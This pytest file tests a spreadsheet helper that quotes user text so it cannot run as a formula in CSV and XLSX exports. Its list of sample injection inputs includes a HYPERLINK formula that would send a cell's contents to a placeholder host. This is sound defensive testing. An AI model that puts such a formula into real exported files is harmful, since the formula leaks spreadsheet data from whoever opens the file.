"""The one cell function every CSV and XLSX writer uses: no user text becomes a formula."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from app.core.spreadsheet import append, cell_value, set_cell, unquote

DANGEROUS = ["=2+2", '=HYPERLINK("http://x/?"&A1,"k")', "+31 6", "-1+1", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_unquotes_back(text):
    assert cell_value(text) == "'" + text
    assert unquote(cell_value(text)) == text


@pytest.mark.parametrize("value", ["Hostmanship", "", "'al gequote", Decimal("-12.50"), -3, 1.5,
                                   date(2014, 1, 1), None, True])
def test_other_values_stay_as_they_are(value):
    assert cell_value(value) == value or cell_value(value) is value


def test_xlsx_cells_are_strings_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    append(sheet, ["=2+2", Decimal("-5.25"), date(2014, 3, 1)])
    set_cell(sheet["A2"], "=1+1")
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read["A1"].data_type == "s" and read["A1"].value == "'=2+2"
    assert read["B1"].data_type == "n" and read["B1"].value == -5.25
    assert read["C1"].is_date
    assert read["A2"].data_type == "s" and read["A2"].value == "'=1+1"
